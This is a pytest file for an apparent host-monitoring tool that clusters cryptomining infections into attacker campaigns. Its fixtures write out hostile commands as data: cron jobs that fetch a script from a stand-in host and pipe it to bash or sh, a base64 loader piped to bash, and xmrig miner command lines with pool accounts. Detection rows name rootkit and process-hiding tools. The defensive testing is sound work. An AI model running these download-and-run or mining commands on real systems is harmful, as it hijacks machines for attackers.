"""What joins hosts to a campaign, and what everybody has that looks like it."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from extension.fleet.names import Names
from extension.fleet.pool_accounts import pool_accounts
from extension.fleet.shared_things import is_base_image
from tests.fleet.looking import line, miner, reported, told

T, HOUR, DAY = 1795436552, 3600, 86400
WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"


def _mining_for(host: str, when: int, user: str, pool: str = "eu.pool.example:3333") -> dict[str, Any]:
    return miner(host, when, cmdline=f"/tmp/.{host}/x -o {pool} -u {user} -p x", pool=pool)


def _job(host: str, when: int, command: str, path: str = "") -> dict[str, Any]:
    return line(
        "cron_download_and_run", 1, when, "added", host, path=path or f"/etc/cron.d/.{host}", command=command, evidence="x"
    )


def _key(host: str, when: int, name: str, counter: int = 1) -> dict[str, Any]:
    return line("authorized_keys", counter, when, "added", host, username="root", fingerprint=f"SHA256:{name}")


def _with_own_keys() -> list[dict[str, Any]]:
    """Nine hosts of which the logs hold what keys they had before."""
    return [_key(f"h{n}", T - 2 * DAY, "own", counter=0) for n in range(9)]


def test_who_mines_for_one_account_is_one_crew_and_for_two_are_two(tmp_path: Path, names: Names) -> None:
    lines = [_mining_for(f"a{n}", T + n * HOUR, f"krxX7PVQVR.{n}") for n in range(3)]
    lines += [_mining_for(f"b{n}", T + n * HOUR, f"Zt81kkPQWa.{n}", "us.pool.example:5555") for n in range(3)]
    for host in ("a0", "a1", "a2", "b0", "b1", "b2"):
        lines.append(_job(host, T, "base64 -d /opt/nebula-updater | bash"))
    report = reported(tmp_path, names, lines)
    assert sorted(map(sorted, told(report))) == [["a0", "a1", "a2"], ["b0", "b1", "b2"]]
    assert {"kind": "pool_account", "value": "krxX7PVQVR@pool.example", "hosts": 3} in report["campaigns"][0]["shared"]


def _two_crews(folder: Path, names: Names, tool: dict[str, str], own: bool = True) -> list[list[str]]:
    """The campaigns of two crews with wallets of their own on two hosts each, which have what `tool` says in common."""
    lines = []
    for number, crew in enumerate("ab"):
        pool = {"pool": f"p.{crew}.example:443", "exe_sha256": crew * 64} if own else {}
        lines += [miner(f"{crew}{n}", T + number * DAY, wallet=f"4{crew}", **pool, **tool) for n in (1, 2)]
    folder.mkdir()
    return sorted(map(sorted, told(reported(folder, names, lines))))


def test_what_two_crews_have_from_a_third_makes_them_none(tmp_path: Path, names: Names) -> None:
    apart, one = [["a1", "a2"], ["b1", "b2"]], [["a1", "a2", "b1", "b2"]]
    image = {"image": "metal3d/xmrig:latest", "image_digest": "sha256:" + "1" * 64}
    assert _two_crews(tmp_path / "image", names, image) == apart
    build = {"exe_sha256": "c" * 64}
    assert _two_crews(tmp_path / "build", names, build, own=False) == apart
    # A listed pool is everybody's, whatever its address.
    public = {**build, "pool": "gulf.moneroocean.stream:443", "remote_address": "199.247.27.41"}
    assert _two_crews(tmp_path / "public", names, public, own=False) == apart
    # Who has a proxy of their own and a build of their own is one, whoever is paid.
    proxy = {**build, "pool": "203.0.113.9:443", "remote_address": "203.0.113.9"}
    assert _two_crews(tmp_path / "proxy", names, proxy, own=False) == one


@pytest.mark.parametrize(
    ("query", "row"),
    [
        ("hidden_kernel_module", {"module": "diamorphine", "evidence": "x"}),
        ("preloaded_library", {"path": "/usr/lib/libprocesshider.so", "sha256": "9" * 64, "evidence": "x"}),
        ("authorized_keys", {"username": "root", "fingerprint": "SHA256:responders"}),
    ],
)
def test_what_hides_two_crews_or_came_to_both_with_responders_makes_them_none(
    tmp_path: Path, names: Names, query: str, row: dict[str, str]
) -> None:
    lines = _with_own_keys()
    for number, crew in enumerate("ab"):
        for host in (f"{crew}1", f"{crew}2"):
            fell = T + number * DAY
            lines.append(miner(host, fell, wallet=f"4{crew}", pool=f"p.{crew}.example:443", exe_sha256=crew * 64))
            lines.append(line(query, 1, fell + 4800, "added", host, **row))
    assert sorted(map(sorted, told(reported(tmp_path, names, lines)))) == [["a1", "a2"], ["b1", "b2"]]


@pytest.mark.parametrize(
    ("command", "account"),
    [
        ("xmrig -o gulf.moneroocean.stream:10128 -u ocean77.rig1 -p x", ["ocean77@moneroocean.stream"]),
        ("./x --url=stratum+tcp://192.0.2.7:3333 --user=ocean77/2 --pass=c=XMR", ["ocean77@192.0.2.7"]),
        ("xmrig -o pool.example:3333 -u miner -p x", []),
        ("xmrig -o pool.example:3333 -u YOUR_WALLET_ADDRESS.x -p x", []),
        ("xmrig -o pool.example:3333 -u your-mining-crew -p x", ["your-mining-crew@pool.example"]),
        (f"xmrig -o pool.example:3333 -u {WALLET} -p x", []),
        # What curl and mysql mean by these options.
        ("curl -u deploy77:secret -o /tmp/x https://ci.example/x", []),
        ("mysql -u reports77 -P 3306 -h db.example", []),
    ],
)  # fmt: skip
def test_accounts_at_pools(command: str, account: list[str]) -> None:
    assert list(pool_accounts(command)) == account


def test_an_image_that_everybody_begins_with_joins_nobody(tmp_path: Path, names: Names) -> None:
    assert is_base_image("docker.io/library/alpine:3.19") and is_base_image("ubuntu@sha256:00") and is_base_image("busybox")
    assert not is_base_image("kannix/monero-miner") and not is_base_image("registry.example/alpine:1")
    for number, (image, is_one) in enumerate((("alpine:latest", False), ("kannix/worker:1", True))):
        row = {"image": image, "image_digest": "sha256:" + "0" * 64, "evidence": "x", "reasons": "x"}
        lines = [
            line(
                "container_downloads_and_runs", 1, T + n, "added", host, container_id=str(n) * 64, command=f"run {host}zzz", **row
            )
            for n, host in enumerate(("a", "b"))
        ]
        lines += [miner(host, T + 60, wallet=f"4w{host}", container_id=str(n) * 64) for n, host in enumerate(("a", "b"))]
        (tmp_path / str(number)).mkdir()
        assert bool(told(reported(tmp_path / str(number), names, lines))) is is_one, image


def test_two_crews_that_wrote_into_one_crontab_stay_two(tmp_path: Path, names: Names) -> None:
    lines = []
    for crew, hosts in (("one", ("a0", "a1", "both")), ("two", ("b0", "b1", "both"))):
        for number, host in enumerate(hosts):
            when = T + number * HOUR
            lines.append(_job(host, when, f"curl -fsSL http://{crew}.crew.example/x.sh | bash", "/var/spool/cron/root"))
            own = {"pid": crew, "exe_path": f"/tmp/{crew}{host}", "pool": "pool.supportxmr.com:443", "wallet": f"4{crew}"}
            lines.append(miner(host, when, **own))
    assert sorted(map(sorted, told(reported(tmp_path, names, lines)))) == [["a0", "a1", "both"], ["b0", "b1", "both"]]


@pytest.mark.parametrize(
    ("address", "count", "is_one"), [("203.0.113.77", 3, True), ("203.0.113.77", 12, True), ("10.0.0.77", 3, False)]
)
def test_jobs_that_fetch_from_one_bare_address_outside_are_a_campaign(
    tmp_path: Path, names: Names, address: str, count: int, is_one: bool
) -> None:
    lines = [line("cron_jobs", 0, T, "added", f"h{n}", command="x") for n in range(200)]
    lines += [_job(f"h{n}", T + n * HOUR, f"curl -fsSL http://{address}/{n}xyz/i.sh | bash") for n in range(count)]
    assert [len(hosts) for hosts in told(reported(tmp_path, names, lines))] == ([count] if is_one else [])


def test_what_fetched_a_campaigns_miner_is_of_that_campaign(tmp_path: Path, names: Names) -> None:
    lines = [miner(host, T + 600, wallet="4w") for host in ("a", "b", "c")]
    shell = {"exe_path": "/usr/bin/dash", "account_uid": "33", "cmdline": "sh -c curl http://203.0.113.7/x | sh", "evidence": "x"}
    for number, host in enumerate(("a", "b")):
        lines.append(line("service_account_shell", 1, T, "added", host, pid=f"9{number}", start_time=str(T), **shell))
        # Where two programs mine, nothing says whose shell it was.
        other = {"pid": "5", "start_time": str(T), "exe_path": f"/opt/{host}/y", "remote_address": f"198.51.100.{number}"}
        lines.append(line("pool_connection", 1, T, "added", host, evidence="x", **other))
    report = reported(tmp_path, names, lines)
    assert told(report) == [["a", "b", "c"]]
    assert sorted(one["campaign"] for one in report["incidents"]) == ["", "", *["C1"] * 5]


@pytest.mark.parametrize(
    ("when", "on_others", "is_one"),
    [
        (60, False, True),
        # Whoever cleans the hosts comes later, and an administrator's key is elsewhere too.
        (9 * HOUR, False, False),
        (60, True, False),
    ],
)
def test_a_new_key_that_came_with_the_miners_and_is_nowhere_else_joins(
    tmp_path: Path, names: Names, when: int, on_others: bool, is_one: bool
) -> None:
    lines = _with_own_keys()
    for number in range(3):
        fell = T + number * DAY
        lines += [miner(f"h{number}", fell, wallet=f"4w{number}"), _key(f"h{number}", fell + when, "new")]
    if on_others:
        lines.append(_key("h8", T + DAY, "new"))
    report = reported(tmp_path, names, lines)
    assert told(report) == ([["h0", "h1", "h2"]] if is_one else [])
    if is_one:
        assert {"kind": "key", "value": "SHA256:new", "hosts": 3} in report["campaigns"][0]["shared"]


def test_a_key_that_one_of_several_hosts_got_later_joins_them_all_the_same(tmp_path: Path, names: Names) -> None:
    lines = _with_own_keys()
    for number in range(5):
        fell = T + number * HOUR
        came = fell + (12 * HOUR if number == 3 else 60)
        lines += [miner(f"h{number}", fell, wallet=f"4w{number}"), _key(f"h{number}", came, "new")]
    assert told(reported(tmp_path, names, lines)) == [["h0", "h1", "h2", "h4"]]


def test_a_dropper_and_its_miner_on_the_same_hosts_are_one_campaign_and_told_by_the_miner(tmp_path: Path, names: Names) -> None:
    """Nothing is in both, but they came to the same hosts within minutes."""

    def logged(folder: Path, apart: int) -> list[dict[str, Any]]:
        lines = []
        for number, host in enumerate(("a", "b", "c")):
            came = T + number * HOUR
            process = {"pid": "8", "start_time": str(came), "exe_path": "/tmp/.migo", "evidence": "x"}
            for n, (when, action) in enumerate(((came, "added"), (came + 1200, "removed")), 1):
                lines.append(line("odd_place_program", n, when, action, host, exe_sha256="d" * 64, **process))
                job = {"command": "curl -s http://203.0.113.7/m | sh; /tmp/.migo", "path": f"/etc/cron.d/{host}", "evidence": "x"}
                lines.append(line("cron_download_and_run", n, when, action, host, **job))
            mines = {"exe_path": "/usr/local/x", "exe_sha256": "e" * 64, "pool": "203.0.113.9:443"}
            lines.append(miner(host, came + apart, logged=came + apart, **mines))
        folder.mkdir()
        campaigns: list[dict[str, Any]] = reported(folder, names, lines)["campaigns"]
        return campaigns

    (campaign,) = logged(tmp_path / "minutes", 600)
    assert [host["host"] for host in campaign["hosts"]] == ["a", "b", "c"]
    assert "mines at 203.0.113.9:443" in campaign["sentence"]["en"]
    assert len(logged(tmp_path / "days", 3 * DAY)) == 2


def test_what_a_shell_that_is_gone_fetched_is_hunted_for(tmp_path: Path, names: Names) -> None:
    lines = []
    for host in ("a", "b"):
        shell = {"pid": "9", "start_time": str(T), "exe_path": "/usr/bin/dash", "evidence": "x"}
        shell["cmdline"] = "bash -c (curl -s 203.0.113.7/cf.sh||wget -q -O- 203.0.113.7/cf.sh)|bash"
        lines += [line("service_account_shell", n, T + n * 600, ("", "added", "removed")[n], host, **shell) for n in (1, 2)]
        lines.append(miner(host, T + 60, wallet="4w", parent="9", parent_name="dash", cmdline="/tmp/x 203.0.113.7/cf.sh"))
    (campaign,) = reported(tmp_path, names, lines)["campaigns"]
    assert ("address", "203.0.113.7") in {(each["kind"], each["value"]) for each in campaign["indicators"]}


def test_the_image_of_a_container_that_stands_open_is_no_indicator(tmp_path: Path, names: Names) -> None:
    lines = []
    for number, host in enumerate(("a", "b", "c")):
        agent = {"container_id": f"{number:064}", "container_name": "agent", "image": "registry.example/infra/agent:3"}
        lines.append(line("container_reaches_host", 0, T - DAY, "added", host, reasons="privileged", evidence="x", **agent))
        lines.append(line("containers", 0, T - DAY, "added", host, **agent))
        lines.append(miner(host, T + number, wallet="4w"))
    (campaign,) = reported(tmp_path, names, lines)["campaigns"]
    assert {each["kind"] for each in campaign["indicators"]} == {"wallet"}
